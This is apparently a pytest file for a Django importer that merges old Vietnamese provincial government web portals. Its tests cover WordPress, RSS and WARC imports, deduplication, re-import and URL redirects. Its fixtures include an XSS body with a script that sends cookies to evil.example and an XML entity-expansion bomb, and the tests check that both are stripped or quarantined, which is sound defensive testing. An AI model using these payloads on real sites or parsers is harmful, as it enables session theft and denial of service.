"""Old portals imported through the consolidation engine: fields, files, hostile input, near-duplicates,
idempotent re-import, and every old URL answering through the crosswalk."""

import io

import pytest
from django.utils import timezone
from PIL import Image
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from hopnhat.consolidation.models import StagedRecord
from hopnhat.core.models import AuditEntry
from hopnhat.portal.crosswalk.resolve import resolve_url
from hopnhat.portal.importing import run_import
from hopnhat.portal.models import ArticleOrigin, ArticlePage, HistoricUnitPage, ImportedFile

from .conftest import NOTICE, OTHER, wxr, wxr_item

ACTOR = "system:test"
PNG = io.BytesIO()
Image.new("RGB", (60, 40), (20, 120, 60)).save(PNG, format="PNG")
PNG = PNG.getvalue()


def _wxr_site(tmp_path, *items, name="hagiang.xml"):
    uploads = tmp_path / "uploads"
    (uploads / "wp-content/uploads/2025/06").mkdir(parents=True, exist_ok=True)
    (uploads / "wp-content/uploads/2025/06/hoi-nghi.png").write_bytes(PNG)
    (uploads / "wp-content/uploads/2025/06/tb-215.pdf").write_bytes(b"%PDF-1.4\n% thong bao 215\n" + b"1" * 3000)
    path = tmp_path / name
    path.write_text(wxr(*items), encoding="utf-8")
    return {"path": str(path), "media_dir": str(uploads)}


HOSTILE_BODY = (f"<p onclick=\"steal()\">{NOTICE}</p><script>document.location='https://evil.example/'+document"
                ".cookie</script><p><a href=\"javascript:alert(1)\">Xem</a> <img src=\"/wp-content/uploads/2025/06/"
                "hoi-nghi.png\" alt=\"Hội nghị\" onerror=\"alert(2)\"></p><iframe src=\"https://ads.example/\"></iframe>"
                "<p><a href=\"https://hagiang.gov.vn/wp-content/uploads/2025/06/tb-215.pdf\">Thông báo 215</a></p>")


@pytest.fixture
def hagiang(tmp_path, units):
    config = _wxr_site(tmp_path, wxr_item(1, "Thông báo về việc sắp xếp đơn vị hành chính", HOSTILE_BODY),
                       wxr_item(2, "Ra quân trồng cây", f"<p>{OTHER}</p>", date="2025-02-08 07:00:00"),
                       wxr_item(3, "Bản nháp", f"<p>{OTHER} nháp</p>", status="draft"))
    return run_import("wxr", config, site="hagiang.gov.vn", unit="02", actor=ACTOR)


def test_wxr_import_keeps_fields_and_files_and_strips_active_content(hagiang, units):
    assert hagiang["balanced"] is True
    assert hagiang["totals"]["outcomes"] == {"loaded": 2, "merged": 0, "quarantined": 0, "filtered": 1}
    page = ArticlePage.objects.get(title="Thông báo về việc sắp xếp đơn vị hành chính")
    assert page.live and page.author == "Văn phòng UBND tỉnh" and page.origin_unit == units["ha_giang"]
    assert page.categories == ["Thông báo"] and page.tags == ["sáp nhập"]
    assert timezone.localtime(page.date).isoformat() == "2025-06-16T08:00:00+07:00"
    for bad in ("<script", "onclick", "onerror", "javascript:", "<iframe", "evil.example"):
        assert bad not in page.body
    assert 'embedtype="image"' in page.body and 'linktype="document"' in page.body
    files = {f.file.first_url.rsplit("/", 1)[1]: f.file for f in page.files.select_related("file")}
    assert files["hoi-nghi.png"].image.width == 60 and files["tb-215.pdf"].document.title == "Thông báo 215"
    assert len(files["tb-215.pdf"].sha256) == 64
    origin = page.origins.get()
    assert origin.old_url == "https://hagiang.gov.vn/2025/06/bai-1/" and origin.old_site == "hagiang.gov.vn"
    assert origin.unit == units["ha_giang"] and origin.source_kind == "wxr"
    assert HistoricUnitPage.objects.get(unit=units["ha_giang"]).title == "UBND tỉnh Hà Giang (cũ)"
    assert AuditEntry.objects.filter(action="portal.article.loaded").count() == 2
    draft = StagedRecord.objects.get(key="https://hagiang.gov.vn/2025/06/bai-3/")
    assert draft.outcome == "filtered" and draft.reason == "not-published:draft"


def test_published_articles_are_in_the_portal_search(hagiang, units):
    from hopnhat.portal.search.models import SearchDocument

    page = ArticlePage.objects.get(title="Ra quân trồng cây")
    doc = SearchDocument.objects.get(page=page)
    assert doc.doc_type == "news" and doc.origin_unit == units["ha_giang"] and "Phú Linh" in doc.body


def test_every_old_url_and_wordpress_short_link_redirects_to_the_page(hagiang):
    page = ArticlePage.objects.get(title="Ra quân trồng cây")
    for old in ("https://hagiang.gov.vn/2025/06/bai-2/", "https://hagiang.gov.vn/?p=2"):
        outcome = resolve_url(old)
        assert outcome.kind == "redirect" and outcome.status == 301, old
        assert outcome.location.endswith(page.url)


def test_hostile_file_is_quarantined_and_nothing_imported_before_is_lost(hagiang, tmp_path):
    before = set(ArticlePage.objects.values_list("pk", "title"))
    bomb = tmp_path / "bom.xml"
    bomb.write_text('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
                    + wxr(wxr_item(9, "&lol2;", "<p>x</p>")).split("?>", 1)[1], encoding="utf-8")
    result = run_import("wxr", {"path": str(bomb)}, site="hagiang.gov.vn", actor=ACTOR)
    assert result["totals"]["outcomes"]["quarantined"] == 1 and result["balanced"] is True
    (problem,) = result["quarantined"]
    assert problem["key"] == "bom.xml#refused" and "bom.xml" in problem["reason"] and "DTD" in problem["reason"]
    assert before <= set(ArticlePage.objects.values_list("pk", "title"))


def test_broken_xml_mid_file_loads_what_came_before_and_names_the_line(tmp_path, units):
    text = wxr(wxr_item(1, "Ra quân trồng cây", f"<p>{OTHER}</p>"), "<item><title>Hỏng<title></item>")
    path = tmp_path / "cut.xml"
    path.write_text(text, encoding="utf-8")
    result = run_import("wxr", {"path": str(path)}, site="hagiang.gov.vn", unit="02", actor=ACTOR)
    assert result["totals"]["outcomes"] == {"loaded": 1, "merged": 0, "quarantined": 1, "filtered": 0}
    (problem,) = result["quarantined"]
    line = text[: text.index("<item><title>Hỏng")].count("\n") + 1
    assert f"cut.xml, dòng {line}" in problem["reason"]
    assert ArticlePage.objects.filter(title="Ra quân trồng cây").exists()


def test_oversized_files_and_bodies_are_refused_with_reasons(tmp_path, units):
    huge_body = "<p>" + "Nội dung rất dài. " * 130_000 + "</p>"
    config = _wxr_site(tmp_path, wxr_item(1, "Thông báo", HOSTILE_BODY), wxr_item(2, "Quá lớn", huge_body))
    config["max_media_bytes"] = 1000
    result = run_import("wxr", config, site="hagiang.gov.vn", actor=ACTOR)
    assert result["totals"]["outcomes"] == {"loaded": 1, "merged": 0, "quarantined": 1, "filtered": 0}
    assert "quá lớn" in result["quarantined"][0]["reason"] and "item 2" in result["quarantined"][0]["reason"]
    refused = ArticleOrigin.objects.get(old_url="https://hagiang.gov.vn/2025/06/bai-1/").media_refused
    assert [r["url"].rsplit("/", 1)[1] for r in refused] == ["tb-215.pdf"]
    assert "quá lớn" in refused[0]["reason"] and "too large" in refused[0]["reason"]
    assert not ImportedFile.objects.filter(first_url__endswith="tb-215.pdf").exists()


def test_files_outside_the_allowed_hosts_are_not_fetched(tmp_path, units):
    body = f'<p>{OTHER}</p><p><img src="https://cdn.quangcao.example/banner.png" alt="Quảng cáo"></p>'
    result = run_import("wxr", _wxr_site(tmp_path, wxr_item(1, "Trồng cây", body)), site="hagiang.gov.vn",
                        actor=ACTOR)
    assert result["totals"]["outcomes"]["loaded"] == 1
    origin = ArticleOrigin.objects.get()
    assert origin.media_refused == [{"url": "https://cdn.quangcao.example/banner.png",
                                     "reason": "máy chủ không được phép / host not allowed: cdn.quangcao.example"}]
    assert "quangcao" not in origin.page.body


def _rss(path, items):
    path.write_text(f"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
 xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Sở GD&amp;ĐT Tuyên Quang</title>
{"".join(f'<item><title>{t}</title><link>{link}</link><pubDate>{d}</pubDate><category>Tin tức</category>'
         f'<content:encoded><![CDATA[{b}]]></content:encoded></item>' for t, link, d, b in items)}
</channel></rss>""", encoding="utf-8")
    return {"path": str(path)}


def _warc(path, pages):
    with path.open("wb") as fh:
        writer = WARCWriter(fh, gzip=True)
        for url, title, text in pages:
            html = (f"<html><head><title>{title}</title></head><body><nav><a href='/'>Trang chủ</a></nav><article>"
                    f"<h1>{title}</h1><p>{text}</p></article><footer>UBND huyện Vị Xuyên</footer></body></html>")
            headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
            writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(html.encode()),
                                                          http_headers=headers))
    return {"path": str(path)}


def test_notice_reposted_on_three_old_portals_becomes_one_page_with_every_origin(hagiang, tmp_path, units):
    edited = NOTICE.replace("Trung tâm phục vụ hành chính công", "Bộ phận một cửa") + " Nguồn: Cổng TTĐT tỉnh Hà Giang."
    rss = _rss(tmp_path / "sgddt.xml", [
        ("Thông báo về việc sắp xếp ĐVHC", "https://sgddt.tuyenquang.gov.vn/tin/tb-sap-xep.html",
         "Tue, 17 Jun 2025 07:30:00 +0700", f"<p>{edited}</p>"),
        ("Hướng dẫn tuyển sinh lớp 10", "https://sgddt.tuyenquang.gov.vn/tin/tuyen-sinh.html",
         "Thu, 10 Apr 2025 08:00:00 +0700",
         "<p>Sở Giáo dục và Đào tạo tỉnh Tuyên Quang ban hành hướng dẫn tuyển sinh vào lớp 10 THPT năm học "
         "2025–2026; thí sinh thi ba bài Ngữ văn, Toán và Tiếng Anh, nộp hồ sơ trực tuyến từ 15/5 đến 25/5.</p>"),
    ])
    result = run_import("feed", rss, site="sgddt.tuyenquang.gov.vn", unit=units["tuyen_quang_old"], actor=ACTOR)
    assert result["totals"]["outcomes"] == {"loaded": 1, "merged": 1, "quarantined": 0, "filtered": 0}
    warc = _warc(tmp_path / "vixuyen.warc.gz", [
        ("https://vixuyen.hagiang.gov.vn/tin-tuc/thong-bao.html", "Thông báo sắp xếp đơn vị hành chính 2025",
         NOTICE.replace("Người dân, doanh nghiệp", "Nhân dân, doanh nghiệp") + " (Theo Cổng TTĐT tỉnh Hà Giang)")])
    result = run_import("warc", warc, site="vixuyen.hagiang.gov.vn", unit="030", actor=ACTOR)
    assert result["totals"]["outcomes"]["merged"] == 1

    page = ArticlePage.objects.get(title="Thông báo về việc sắp xếp đơn vị hành chính")
    origins = list(page.origins.order_by("pk"))
    assert [(o.old_site, o.unit.code, o.source_kind) for o in origins] == [
        ("hagiang.gov.vn", "02", "wxr"), ("sgddt.tuyenquang.gov.vn", "08", "feed"),
        ("vixuyen.hagiang.gov.vn", "030", "warc")]
    assert all(0.7 <= o.similarity <= 1.0 for o in origins)
    assert "Bộ phận một cửa" in origins[1].body          # each portal's own wording is kept
    for origin in origins:
        assert resolve_url(origin.old_url).location.endswith(page.url)
    assert page.categories == ["Thông báo", "Tin tức"]
    assert ArticlePage.objects.count() == 3              # trồng cây, the notice, tuyển sinh
    # The historic page of each old unit lists the article it published.
    for unit in ("ha_giang", "tuyen_quang_old", "vi_xuyen"):
        historic = HistoricUnitPage.objects.get(unit=units[unit])
        assert page in historic.get_context(_request())["articles"].object_list


def _request():
    from django.test import RequestFactory

    return RequestFactory().get("/")


def test_reimport_is_idempotent_and_picks_up_edits(tmp_path, units):
    items = [wxr_item(1, "Thông báo", f"<p>{NOTICE}</p>"), wxr_item(2, "Trồng cây", f"<p>{OTHER}</p>")]
    config = _wxr_site(tmp_path, *items)
    run_import("wxr", config, site="hagiang.gov.vn", unit="02", actor=ACTOR)
    snapshot = (ArticlePage.objects.count(), ArticleOrigin.objects.count(), ImportedFile.objects.count(),
                AuditEntry.objects.filter(action__startswith="portal.").count())
    again = run_import("wxr", config, site="hagiang.gov.vn", unit="02", actor=ACTOR)
    assert again["totals"]["unchanged"] == 2 and again["totals"]["new"] == 0
    assert snapshot == (ArticlePage.objects.count(), ArticleOrigin.objects.count(), ImportedFile.objects.count(),
                        AuditEntry.objects.filter(action__startswith="portal.").count())
    # The old site corrected a typo: the origin keeps the new text, still one page.
    (tmp_path / "hagiang.xml").write_text(wxr(items[0], wxr_item(2, "Trồng cây", f"<p>{OTHER} Đã sửa.</p>")),
                                          encoding="utf-8")
    edited = run_import("wxr", config, site="hagiang.gov.vn", unit="02", actor=ACTOR)
    assert edited["totals"]["changed"] == 1 and edited["totals"]["outcomes"]["merged"] == 1
    assert "Đã sửa." in ArticleOrigin.objects.get(old_url="https://hagiang.gov.vn/2025/06/bai-2/").body
    assert ArticlePage.objects.count() == snapshot[0]


def test_dry_run_changes_nothing(tmp_path, units):
    config = _wxr_site(tmp_path, wxr_item(1, "Thông báo", HOSTILE_BODY))
    result = run_import("wxr", config, site="hagiang.gov.vn", unit="02", dry_run=True, actor=ACTOR)
    assert result["dry_run"] is True and result["totals"]["outcomes"]["loaded"] == 1
    assert not ArticlePage.objects.exists() and not ArticleOrigin.objects.exists()
    assert not ImportedFile.objects.exists()


def test_unknown_kind_and_unit_are_clear_errors(units, tmp_path):
    with pytest.raises(ValueError, match="joomla"):
        run_import("joomla", str(tmp_path / "x"), site="hagiang.gov.vn", actor=ACTOR)
    with pytest.raises(LookupError, match="99999"):
        run_import("wxr", str(tmp_path / "x"), site="hagiang.gov.vn", unit="99999", actor=ACTOR)
